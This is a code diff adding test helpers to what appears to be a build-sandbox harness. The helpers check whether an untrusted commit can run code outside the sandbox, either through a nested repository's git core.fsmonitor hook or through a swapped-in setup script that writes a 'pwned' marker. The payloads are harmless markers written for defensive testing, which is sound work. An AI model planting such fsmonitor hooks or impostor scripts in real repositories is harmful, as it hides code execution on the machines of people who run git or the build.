@@ -8,6 +8,7 @@ from __future__ import annotations
 import hashlib
 import os
 import signal
+import subprocess
 import time
 from pathlib import Path
 
@@ -135,3 +136,40 @@ def clean_up(tag: str, mine: list[Path]) -> None:
             f.unlink()
     for pid in left_behind(tag):
         os.kill(pid, signal.SIGKILL)
+
+
+# Issue 61: the head's folder is the head's to write, so any command the harness runs there
+# afterwards, outside the sandbox, runs the head's code. Two ways in, each with a marker file
+# outside the sandbox that only the harness itself (unsandboxed) could write.
+
+GITLINK = "vendor/lib"  # where the head's commit has a gitlink (a submodule entry)
+
+
+def add_gitlink(repo: Path, path: str = GITLINK) -> None:
+    """Stage a gitlink (mode 160000, naming repo's HEAD commit) at `path`: a checkout or an
+    export leaves an empty folder there, which the build may then fill."""
+
+    def git(*args: str) -> str:
+        return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True,
+                              text=True).stdout.strip()  # fmt: skip
+
+    git("update-index", "--add", "--cacheinfo", f"160000,{git('rev-parse', 'HEAD')},{path}")
+
+
+def fsmonitor_attack(marker: Path, path: str = GITLINK) -> str:
+    """Shell lines for the head's build (as its build.rs would run them): make the gitlink's
+    folder a populated git repository whose `core.fsmonitor` writes `marker`. `git status` in
+    the superproject descends into it and runs that command through the shell, as whoever ran
+    git: the build's sandbox cannot write `marker`, the harness outside it can. Prints
+    "fsmonitor planted" when it is in place (the test checks the build did plant it)."""
+    return (
+        f'( mkdir -p "{path}" && cd "{path}" && git init -q && '
+        "git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x && "
+        f"git config core.fsmonitor 'echo pwned > \"{marker}\"; false' && echo fsmonitor planted ) 2>&1\n"
+    )
+
+
+def tuning_attack(marker: Path) -> str:
+    """The head's own hft/scripts/setup_hft_system.sh: writes `marker`, then answers --check
+    --json as the real one would (with nothing). Run by the harness, it runs the head's code."""
+    return f'#!/bin/bash\necho pwned > "{marker}"\necho \'{{"knobs": {{}}}}\'\n'
